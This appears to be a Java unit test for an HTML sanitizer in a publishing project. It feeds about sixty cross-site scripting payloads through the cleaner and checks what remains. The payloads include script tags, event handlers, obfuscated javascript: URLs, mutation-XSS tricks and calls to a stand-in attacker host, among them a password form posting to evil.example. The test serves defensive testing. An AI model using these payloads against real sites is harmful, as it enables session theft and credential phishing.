package org.gongkai.publication.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class CleaningHostileHtmlTest {

    private static final Set<String> ATTRIBUTES =
            Set.of(
                    "href", "rel", "src", "alt", "width", "height", "colspan", "rowspan", "scope",
                    "start", "class", "id");

    static String[] attacks() {
        return new String[] {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
            "<img src=//evil.example/track.gif>",
            "<img src=https://evil.example/track.gif>",
            "<img src=/files/../admin/delete>",
            "<img src='/files/a.png' onload=alert(1) style='x:expression(alert(1))'>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<a href=javascript:alert(1)>点</a>",
            "<a href=' jAvAsCrIpT:alert(1)'>点</a>",
            "<a href='java\tscript:alert(1)'>点</a>",
            "<a href='java&#10;script:alert(1)'>点</a>",
            "<a href='&#106;avascript:alert(1)'>点</a>",
            "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>点</a>",
            "<a href='\u0001javascript:alert(1)'>点</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>点</a>",
            "<a href='vbscript:msgbox(1)'>点</a>",
            "<a href='file:///etc/passwd'>点</a>",
            "<a href='//evil.example'>点</a>",
            "<a href='/\\evil.example'>点</a>",
            "<a href='\\\\evil.example'>点</a>",
            "<a href=x target=_blank onclick=alert(1)>点</a>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
            "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
            "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
            "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=x.swf></object><embed src=x.swf>",
            "<form action=//evil.example><input name=password><button>登录</button></form>",
            "<input autofocus onfocus=alert(1)>",
            "<body onload=alert(1)>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<base href=//evil.example>",
            "<style>@import '//evil.example/x.css'; body{background:red}</style>",
            "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>盖住</div>",
            "<p style='width:expression(alert(1))'>字</p>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<table background=javascript:alert(1)><tr><td>x</table>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<template><script>alert(1)</script></template>",
            "<textarea></textarea><script>alert(1)</script>",
            "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
            "<plaintext><script>alert(1)</script>",
            "<p id=sec-1 name=getElementById class='fixed admin'>字</p>",
            "<a id=location href=#x name=cookie>字</a>",
            "<select><style></select><img src=x onerror=alert(1)></style>",
            "<h2 id=\"sec-1' onmouseover=alert(1)\">题</h2>",
            "<b <script>alert(1)//</b>",
            "<img/src='x'/onerror=alert(1)//",
            "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        };
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void leavesNothingThatRunsOrCallsOut(String attack) {
        for (String html :
                new String[] {attack, "<p>前" + attack + "后</p>", "<table><tr><td>" + attack}) {
            String clean = RichText.clean(html);

            assertThat(clean.toLowerCase(Locale.ROOT))
                    .doesNotContain(
                            "<script", "<svg", "<math", "<style", "<iframe", "<form", "<!--");
            for (Element element : Jsoup.parseBodyFragment(clean).body().select("*").not("body")) {
                element.attributes()
                        .forEach(a -> {
                            assertThat(ATTRIBUTES).as(clean).contains(a.getKey());
                            assertThat(a.getValue()).as(clean).doesNotContain("evil.example");
                        });
                assertThat(element.attr("href"))
                        .matches("|(?:https?|mailto):.*|[#/]?[A-Za-z0-9][^:\\\\]*|/|#.*");
                assertThat(element.attr("src"))
                        .matches("|/files/[A-Za-z0-9/_.-]+")
                        .doesNotContain("..");
            }
            assertThat(RichText.clean(clean)).as("clean twice").isEqualTo(clean);
        }
    }
}
